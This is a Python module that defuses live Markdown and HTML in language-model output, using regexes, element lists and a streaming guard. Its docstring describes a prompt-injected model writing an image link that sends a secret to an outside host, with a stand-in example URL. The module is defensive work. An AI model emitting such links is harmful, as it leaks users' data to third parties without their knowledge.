"""What a language model or a document wrote, made harmless for pages that show it as Markdown.

A document can talk a model into writing ``![](https://elsewhere/?q=secret)``, which a browser fetches without a click.
Images, links and HTML tags lose the characters that make them work, and stay readable: ``![a](b)`` becomes ``[a]
(b)`` and ``<img src=x>`` becomes ``< img src=x>``. What stands for a word of the reader's, as in ``npm run <stage>``,
is no element of HTML that could do anything and stays, so that a command can be copied. Code is left as it is where
every reading of Markdown agrees that it is code: in fences that begin at the margin, and in code spans that close on
their line. A bare address stays, since it takes a click.
"""

from __future__ import annotations

import re

from pipelines.query.data_lines import visible

_FENCE = re.compile(r"(`{3,}|~{3,})[^`\n]*$")
_TICKS = re.compile(r"`+")
_ELEMENTS = (
    "a abbr acronym applet area article aside audio b base basefont bdi bdo bgsound big blockquote body br button "
    "canvas caption center cite code col colgroup datalist dd del details dfn dialog div dl dt element em embed "
    "fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr "
    "html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math "
    "menu menuitem meta meter nav nobr noembed noframes noscript object ol optgroup option p param picture "
    "plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select slot small span strike "
    "strong style sub summary sup svg table tbody td template textarea tfoot th thead title tr track tt u ul use "
    "video wbr xml xmp"
)
"""But for a few that do nothing without attributes and are what words to be filled in are called: ``<dir>``."""
_EVERYWHERE = (
    "accesskey action autofocus background class contenteditable data dir draggable formaction hidden href id inert is "
    "itemid lang nonce on[a-z]* part ping popover poster role slot src srcdoc srcset style tabindex title translate"
)
"""Attributes that do something on any element, or could where a page gives elements names of its own."""
_UNKNOWN = rf"/?(?!(?:{'|'.join(_ELEMENTS.split())})(?![\w.|-]))[a-z]"
_VALUE = r"""(?:'[^'<>@`\n]{0,100}'|"[^"<>@`\n]{0,100}")"""
_STANDS_FOR = (
    rf"{_UNKNOWN}(?:[\w.|-]{{0,40}}(?:(?:,? [\w.|-]{{1,40}}){{0,4}}|[ ][^<>=@`\n]{{0,200}})>"
    rf"|\w{{0,40}}(?:[ ](?!(?:{'|'.join(_EVERYWHERE.split())})=)[a-z]{{1,40}}={_VALUE}){{0,8}}/?>)"
)
"""What follows the ``<`` of a word to be filled in, of a section of settings such as ``<Directory "/srv">``, or of an
element of XML such as ``<disk type='file'/>``: an element that is unknown does nothing, if its attributes do not.
"""
_LIVE = re.compile(rf"!(?=\[)|(?<=\])(?=\()|(?<=<)(?=[A-Za-z/!?])(?!{_STANDS_FOR})", re.IGNORECASE)
_DEFINITION = re.compile(r"([\s>*+\-.)\d]{0,40}\[(?!\d{1,4}\])[^\]]{0,400}\]):")
_UNDECIDED = re.compile(r"[!\]\\]$|<(?:/?(?:[A-Za-z][^<>@`\n]{0,250})?)?$")
_LONGEST_HELD = 400


def harmless(text: str) -> str:
    """Return a whole text without live markup."""
    guard = OutputGuard()
    return guard.feed(text) + guard.finish()


class OutputGuard:
    """Makes text harmless while it is written; what may become live with the next piece is held back."""

    def __init__(self) -> None:
        self._held = ""
        self._fence = ""
        self._line = ""  # what was passed of the line that is being written
        self._open_ticks = False  # a run of backticks of this paragraph waits for its end

    def feed(self, text: str) -> str:
        """Return what can be passed on of all that was fed."""
        *lines, last = (self._held + visible(text)).split("\n")
        passed = "".join(f"{self._end_line(line)}\n" for line in lines)
        ready = self._ready(last)
        self._held = last[ready:]
        return passed + self._pass(last[:ready])

    def finish(self) -> str:
        """Return what was held back; there is no more text."""
        held, self._held = self._held, ""
        return self._end_line(held)

    def _ready(self, part: str) -> int:
        """Return how much of a line's part is decided, whatever comes next."""
        if not self._line and (not part.strip(" `~") or (part.startswith("~~~") and len(part) <= _LONGEST_HELD)):
            return 0  # it may become a fence
        if self._fence:
            return 0 if not self._line else len(part)
        ticks = _unclosed(part)
        if ticks is not None and len(part) - ticks <= _LONGEST_HELD:
            return ticks
        undecided = _UNDECIDED.search(part)
        return undecided.start() if undecided else len(part)

    def _end_line(self, rest: str) -> str:
        whole = not self._line
        passed = self._pass(rest)
        line, self._line = self._line, ""
        if not line.strip():
            self._open_ticks = False
        if whole:
            self._fence = self._fence_after(line)
        return passed

    def _fence_after(self, line: str) -> str:
        """Return the fence that is open behind a line; empty for none."""
        found = _FENCE.match(line)
        if self._fence:
            closed = line.strip()
            closes = closed and not closed.strip(self._fence[0]) and len(closed) >= len(self._fence)
            return "" if closes else self._fence
        return found[1] if found else ""

    def _pass(self, part: str) -> str:
        before, self._line = self._line, self._line + part
        if self._fence or not part:
            return part
        defined = _DEFINITION.match(before + part)
        at = defined.end(1) - len(before) if defined else 0
        if at > 0:
            part = f"{part[:at]} {part[at:]}"
        return self._without_live(part, before)

    def _without_live(self, part: str, before: str) -> str:
        passed, at = "", 0
        for start, end in self._spans(part, before):
            passed += _harmless(part[at:start], (before + part[:at])[-1:]) + part[start:end]
            at = end
        return passed + _harmless(part[at:], (before + part[:at])[-1:])

    def _spans(self, part: str, before: str) -> list[tuple[int, int]]:
        """Return where code spans lie; none behind a run of backticks of the paragraph that may be open."""
        found: list[tuple[int, int]] = []
        runs = list(_TICKS.finditer(part))
        while runs:
            opening = runs.pop(0)
            closing = next((at for at, run in enumerate(runs) if run[0] == opening[0]), None)
            if (before + part[: opening.start()]).endswith("\\") or closing is None:
                self._open_ticks = True
                continue
            start, end = opening.start(), runs[closing].end()
            del runs[: closing + 1]
            self._open_ticks = self._open_ticks or "|" in part[start:end]  # in a table it ends its cell
            if not self._open_ticks:
                found.append((start, end))
        return found


class NoGuard:
    """Passes text on as it is."""

    def feed(self, text: str) -> str:
        """Return the text."""
        return text

    def finish(self) -> str:
        """Return nothing: nothing is held back."""
        return ""


def _unclosed(part: str) -> int | None:
    """Return where the first run of backticks begins that no other run of its length closes."""
    runs = list(_TICKS.finditer(part))
    while runs:
        opening = runs.pop(0)
        closing = next((at for at, run in enumerate(runs) if run[0] == opening[0] and run.end() < len(part)), None)
        if closing is None:
            return opening.start()
        del runs[: closing + 1]
    return None


def _harmless(text: str, before: str) -> str:
    """Return text without live markup; ``before`` is the character in front of it."""
    marked = _LIVE.sub(lambda found: "" if found[0] else " ", before + text)
    return marked[len(before) :]
